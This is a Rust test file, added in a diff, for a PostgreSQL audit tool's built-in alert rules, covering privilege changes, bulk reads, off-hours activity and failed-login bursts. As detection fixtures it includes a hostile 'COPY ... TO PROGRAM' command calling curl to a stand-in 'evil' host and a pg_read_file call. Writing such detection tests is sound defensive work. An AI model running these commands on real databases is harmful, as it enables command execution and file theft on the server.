@@ -1,0 +1,96 @@
+//! The built-in rule pack: each rule fires on what it is for and not on its look-alikes.
+
+use chrono::{TimeZone, Utc};
+use pgtrail_event::{ActivityEvent, EventClass, ObjectKind, ObjectRef};
+use pgtrail_rules::{Engine, RuleSet};
+
+const FILE: &str = r#"
+builtin = true
+
+[settings]
+service_accounts = ["svc_app"]
+bulk_read_rows = 1000
+business_hours = [8, 18]
+"#;
+
+/// A Tuesday, 10:00 UTC: inside business hours.
+fn event(class: EventClass, command: &str, user: &str) -> ActivityEvent {
+    let mut e = ActivityEvent::new(class, command, Utc.with_ymd_and_hms(2026, 11, 24, 10, 0, 0).unwrap());
+    e.db_user_name = Some(user.into());
+    e.session_id = Some("1.1".into());
+    e
+}
+
+fn fired(event: &ActivityEvent) -> Vec<String> {
+    let mut engine = Engine::new(RuleSet::parse(FILE, "rules.toml").unwrap());
+    let mut names: Vec<String> = engine.process(event).into_iter().map(|a| a.rule).collect();
+    names.sort();
+    names
+}
+
+#[test]
+fn the_pack_loads_with_one_line() {
+    let set = RuleSet::parse("builtin = true\n", "rules.toml").unwrap();
+    assert_eq!(set.rules.len(), 12);
+}
+
+#[test]
+fn each_rule_fires_on_its_case() {
+    let mut dml = event(EventClass::Write, "UPDATE", "alice");
+    dml.objects = vec![ObjectRef { kind: ObjectKind::Relation, name: "accounts".into() }];
+    assert_eq!(fired(&dml), vec!["human DML on application tables"]);
+    let mut service = dml.clone();
+    service.db_user_name = Some("svc_app".into());
+    assert!(fired(&service).is_empty());
+
+    assert_eq!(fired(&event(EventClass::Role, "GRANT", "alice")), vec!["privilege change"]);
+    let mut password = event(EventClass::Role, "ALTER ROLE", "alice");
+    password.command_text = Some("ALTER ROLE bob PASSWORD <REDACTED>".into());
+    assert_eq!(fired(&password), vec!["password change", "privilege change"]);
+
+    let mut bulk = event(EventClass::Read, "SELECT", "alice");
+    bulk.row_count = Some(5000);
+    assert_eq!(fired(&bulk), vec!["bulk read"]);
+    bulk.row_count = Some(10);
+    assert!(fired(&bulk).is_empty());
+
+    let mut program = event(EventClass::Write, "COPY", "alice");
+    program.command_text = Some("COPY t TO PROGRAM 'curl evil'".into());
+    assert_eq!(fired(&program), vec!["server file or program access"]);
+    let mut read_file = event(EventClass::Read, "SELECT", "alice");
+    read_file.objects = vec![ObjectRef { kind: ObjectKind::Function, name: "pg_read_file".into() }];
+    assert_eq!(fired(&read_file), vec!["server file or program access"]);
+
+    let mut night = event(EventClass::Read, "SELECT", "alice");
+    night.log_time = Utc.with_ymd_and_hms(2026, 11, 24, 3, 0, 0).unwrap();
+    assert_eq!(fired(&night), vec!["activity outside business hours"]);
+    let mut sunday = night.clone();
+    sunday.log_time = Utc.with_ymd_and_hms(2026, 11, 22, 11, 0, 0).unwrap();
+    assert_eq!(fired(&sunday), vec!["activity outside business hours"]);
+
+    assert_eq!(fired(&event(EventClass::Connect, "CONNECT", "postgres")), vec!["superuser session"]);
+    assert!(fired(&event(EventClass::Connect, "CONNECT", "alice")).is_empty());
+    assert_eq!(fired(&event(EventClass::Ddl, "CREATE TABLE", "alice")), vec!["DDL"]);
+
+    let mut stopped = event(EventClass::Misc, "CAPTURE STOPPED", "-");
+    stopped.kind = "control".into();
+    assert_eq!(fired(&stopped), vec!["capture stopped, configuration changed or keys rotated"]);
+    let mut loss = event(EventClass::Misc, "EVENTS LOST", "-");
+    loss.kind = "loss".into();
+    assert_eq!(fired(&loss), vec!["events lost"]);
+}
+
+#[test]
+fn a_burst_of_failed_logins_fires_per_user() {
+    let mut engine = Engine::new(RuleSet::parse(FILE, "rules.toml").unwrap());
+    let mut alerts = Vec::new();
+    for i in 0..5 {
+        let mut e = event(EventClass::Connect, "CONNECT", "mallory");
+        e.sql_state = Some("28P01".into());
+        e.remote_host = Some("10.9.9.9".into());
+        e.log_time += chrono::Duration::seconds(i);
+        alerts.extend(engine.process(&e));
+    }
+    let names: Vec<&str> = alerts.iter().map(|a| a.rule.as_str()).collect();
+    assert_eq!(names, vec!["failed login burst per user"]);
+}
